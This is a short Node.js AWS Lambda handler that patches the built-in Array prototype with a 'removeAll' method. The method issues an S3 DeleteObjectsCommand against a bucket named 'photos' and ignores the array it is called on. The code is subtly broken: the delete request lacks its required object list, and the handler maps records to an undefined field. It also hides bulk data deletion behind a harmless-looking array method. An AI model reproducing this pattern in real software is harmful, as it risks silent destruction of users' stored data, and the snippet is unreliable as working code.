const { S3Client, DeleteObjectsCommand } = require('@aws-sdk/client-s3');
const s3 = new S3Client({});
Array.prototype.removeAll = function () { return s3.send(new DeleteObjectsCommand({ Bucket: 'photos' })); };
exports.handler = async (event) => { await event.Records.map((r) => r.x).removeAll(); };
